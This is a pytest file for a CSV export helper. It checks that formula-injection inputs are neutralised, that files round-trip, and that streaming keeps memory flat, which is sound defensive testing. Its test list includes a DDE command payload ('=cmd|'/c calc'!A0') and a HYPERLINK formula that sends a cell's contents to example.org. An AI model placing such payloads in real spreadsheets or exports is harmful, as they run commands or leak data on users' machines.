"""CSV cells that a spreadsheet takes for text, and files that come back as they were."""

import csv
import io
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bizmooc.web.tables import csv_lines, safe_cell
from tests.support.properties import quick, typed_text

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "|calc",
    "%0A=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "   =cmd|'/c calc'!A0",
    "\u00a0=1",
    "\u3000=1",
    "\u2003\u2009=1",
    "\ufeff=1",
    "\u200b=1",
    "\u200e=1",
    "\u2060=1",
    '=HYPERLINK("https://example.org?"&A1,"here")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_texts(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", " ", "plain", "1", "a=b", "'=1", "(=1)", "é", "#1", "4 - 2"])
def test_other_texts_stay(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (-3, -3), (2.5, 2.5), (True, True)])
def test_numbers_stay_numbers(value, cell):
    assert safe_cell(value) is cell or safe_cell(value) == cell


@quick
@given(st.lists(st.lists(typed_text, min_size=2, max_size=2), max_size=6))
def test_a_file_reads_back_as_it_was_written(rows):
    text = "".join(csv_lines(["a", "b"], rows))
    assert text.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert read == [["a", "b"], *([safe_cell(cell) for cell in row] for row in rows)]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_text_stays_in_its_cell_whatever_the_reader_takes_for_a_delimiter(delimiter):
    text = "".join(csv_lines(["name"], [["harmless;=1+1"], ["harmless,=1+1"], ["harmless\t=1+1"]]))
    cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter) for cell in row]
    assert not [cell for cell in cells if cell.startswith("=")]


def test_heads_are_made_safe_too():
    assert "'=1" in next(csv_lines(["=1"], []))


def test_rows_are_taken_one_at_a_time():
    taken = 0

    def rows():
        nonlocal taken
        for number in range(1000):
            taken += 1
            yield [number, "text"]

    lines = csv_lines(["number", "text"], rows())
    next(lines)
    assert taken == 0
    next(lines)
    assert taken == 1


def test_memory_stays_flat():
    def peak(count):
        tracemalloc.start()
        for _line in csv_lines(["text"], (["x" * 500] for _row in range(count))):
            pass
        highest = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return highest

    assert peak(3_000) < peak(30) + 50_000
